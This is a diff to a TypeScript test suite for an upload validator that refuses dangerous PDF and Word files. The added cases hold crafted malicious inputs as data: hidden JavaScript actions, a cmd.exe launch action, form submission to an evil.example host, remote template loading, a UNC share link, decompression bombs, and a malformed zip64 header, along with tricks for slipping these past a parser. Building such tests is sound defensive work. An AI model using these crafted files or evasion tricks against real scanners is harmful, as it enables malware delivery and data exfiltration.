@@ -26,16 +26,16 @@ const refusal = (bytes: Uint8Array, endings?: Parameters<Files["putDocument"]>[1
     () => "stored",
     (error: unknown) => (error instanceof DocumentRefused ? error.message : String(error)),
   );
-const streamOf = (dictionary: string, content: Uint8Array) =>
+const streamOf = (dictionary: string, content: Uint8Array, begin = "stream\n") =>
   Buffer.concat([
-    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
+    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\n${begin}`),
     content,
     Buffer.from("\nendstream"),
   ]);
 const pdfWith = (content: string | Uint8Array) =>
   Buffer.concat([Buffer.from("%PDF-1.7\n1 0 obj\n"), Buffer.from(content), Buffer.from("\nendobj\n%%EOF\n")]);
-const packed = (objects: string) =>
-  pdfWith(streamOf("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(objects)));
+const packed = (objects: string, dictionary = "/Type /ObjStm /N 1 /First 4", begin = "stream\n") =>
+  pdfWith(streamOf(`${dictionary} /Filter /FlateDecode`, deflateSync(objects), begin));
 const canvas = () => sharp({ create: { width: 40, height: 30, channels: 3, background: "#21458b" } });
 const pdf = Buffer.from("%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n");
 
@@ -115,7 +115,7 @@ it.each([
   ["a packed script", packed(`7 0 ${SCRIPT}`), /holds scripts/],
   [
     "a script in objects that are not packed",
-    pdfWith(streamOf("/Type /ObjStm", Buffer.from(`7 0 ${SCRIPT}`))),
+    pdfWith(streamOf("/Type /ObjStm /First 4", Buffer.from(`7 0 ${SCRIPT}`))),
     /scripts/,
   ],
   ["a program to start", pdfWith("<< /S/Launch /F (cmd.exe) >>"), /actions that start programs/],
@@ -125,14 +125,40 @@ it.each([
   ["a password", pdfWith("<< /Encrypt 9 0 R >>"), /protected or cannot be checked/],
   [
     "objects packed in another way",
-    pdfWith(streamOf("/Type/ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", Buffer.from("00"))),
+    pdfWith(streamOf("/Type/ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", Buffer.from("00"))),
     /cannot be checked/,
   ],
   [
     "objects that cannot be unpacked",
-    pdfWith(streamOf("/Type /ObjStm /Filter /FlateDecode", Buffer.from("nonsense"))),
+    pdfWith(streamOf("/Type /ObjStm /First 4 /Filter /FlateDecode", Buffer.from("nonsense"))),
     /cannot be checked/,
   ],
+  ["a script after many blanks", pdfWith(`<< /S ${" ".repeat(31)} /JavaScript /JS (1) >>`), /holds scripts/],
+  ["a script after a long comment", pdfWith(`<< /S %${"x".repeat(200)}\n/JavaScript /JS (1) >>`), /holds scripts/],
+  ["a script named elsewhere", pdfWith("<< /S 8 0 R >>\nendobj\n8 0 obj /JavaScript"), /holds scripts/],
+  ["a script behind a text with an open bracket", pdfWith(`<< /T (\\() /A ${SCRIPT} >>`), /holds scripts/],
+  ["a password after many blanks", pdfWith(`<< /Encrypt ${" ".repeat(31)} 9 0 R >>`), /protected/],
+  ["data sent away", pdfWith("<< /S /SubmitForm /F (https://evil.example) >>"), /send data/],
+  ["another file that it opens", pdfWith("<< /S /GoToR /F (\\\\evil\\share) >>"), /open other files/],
+  ["a script in objects of no type", packed(`7 0 ${SCRIPT}`, "/N 1 /First 4"), /holds scripts/],
+  ["a script in objects after the text obj", packed(`7 0 ${SCRIPT}`, "/N 1 /First 4 /Z (obj)"), /holds scripts/],
+  ["a script in objects after a lone line end", packed(`7 0 ${SCRIPT}`, undefined, "stream\r"), /holds scripts/],
+  ["a script in objects after a blank", packed(`7 0 ${SCRIPT}`, undefined, "stream \n"), /holds scripts/],
+  [
+    "a script in objects after a long dictionary",
+    packed(`7 0 ${SCRIPT}`, `/N 1 /First 4 /Z (${"x".repeat(20_000)})`),
+    /scripts/,
+  ],
+  ["a script that begins within a text", packed(`7 1 (${SCRIPT}`), /holds scripts/],
+  [
+    "a script after a false end",
+    pdfWith(streamOf("/First 5", Buffer.from(`7 10 endstream ${SCRIPT}`))),
+    /holds scripts/,
+  ],
+  ["objects that begin no one can tell where", packed("7 0 <<>>", "/N 1 /First 9 0 R"), /cannot be checked/],
+  ["objects that were predicted", packed("7 0 <<>>", "/First 4 /DecodeParms << /Predictor 12 >>"), /cannot be checked/],
+  ["one object without end", pdfWith(`[${" 1".repeat(200_000)}]`), /cannot be checked/],
+  ["beginnings within each other", pdfWith(`(${" 1 0 obj (".repeat(25_000)}`), /cannot be checked/],
   ["objects that unpack without end", packed(" ".repeat(9_000_000)), /cannot be checked/],
 ])("QUAL-33: a PDF with %s is refused, and the text says why", async (_what, bytes, text) => {
   expect(await refusal(bytes)).toMatch(text);
@@ -144,6 +170,21 @@ it("QUAL-33: a PDF that only speaks of scripts, or opens at a page, is taken", a
   for (const bytes of [pdfWith(link), pdfWith("<< /OpenAction [3 0 R /Fit] >>"), pdfWith(page), packed(`7 0 ${link}`)])
     expect(await refusal(bytes)).toBe("stored");
 });
+
+/** The end of a zip that says how many entries there are, without one of them. */
+function zip64With(entries: number): Buffer {
+  const bytes = Buffer.alloc(102);
+  bytes.write("504b0304", 0, "hex");
+  bytes.write("504b0606", 4, "hex");
+  bytes.writeUInt32LE(44, 8);
+  bytes.writeUInt32LE(entries, 28);
+  bytes.writeUInt32LE(entries, 36);
+  bytes.write("504b0607", 60, "hex");
+  bytes.writeUInt32LE(4, 68);
+  bytes.write("504b0506", 80, "hex");
+  bytes.fill(0xff, 88, 100);
+  return bytes;
+}
 
 const outside = (type: string) =>
   `<Relationships><Relationship Id="a" Type="http://schemas.example/${type}" Target="https://evil.example/a" TargetMode="External"/></Relationships>`;
@@ -168,6 +209,33 @@ it.each([
     "a picture from elsewhere",
     docxBytes({ "word/_rels/document.xml.rels": outside("image") }),
     /loaded from elsewhere/,
+  ],
+  [
+    "a template from elsewhere under a prefix",
+    docxBytes({
+      "word/_rels/settings.xml.rels": outside("attachedTemplate").replaceAll("Relationship ", "a-b:Relationship "),
+    }),
+    /^not this kind$/,
+  ],
+  [
+    "a template behind a bracket",
+    docxBytes({ "word/_rels/settings.xml.rels": outside("attachedTemplate").replace("Id=", "Target='a>' Id=") }),
+    /^not this kind$/,
+  ],
+  [
+    "a frame that looks like a link",
+    docxBytes({
+      "word/_rels/document.xml.rels": outside("oleFrame").replace("evil.example/a", "evil.example/?Type='/hyperlink'"),
+    }),
+    /loaded from elsewhere/,
+  ],
+  ["another document in it", docxBytes({ "word/afchunk.rtf": "x" }), /embedded objects/],
+  ["a chunk in it", docxBytes({ "word/_rels/document.xml.rels": outside("aFChunk") }), /embedded objects/],
+  ["more entries than it has bytes for", zip64With(0xffffffff), /^not this kind$/],
+  [
+    "descriptions that unpack without end",
+    docxBytes({ "word/_rels/a.rels": " ".repeat(5_000_000) }),
+    /^not this kind$/,
   ],
   ["macros in the older format", docBytes("_VBA_PROJECT"), /holds macros/],
   ["an object in the older format", docBytes("ObjectPool"), /embedded objects/],
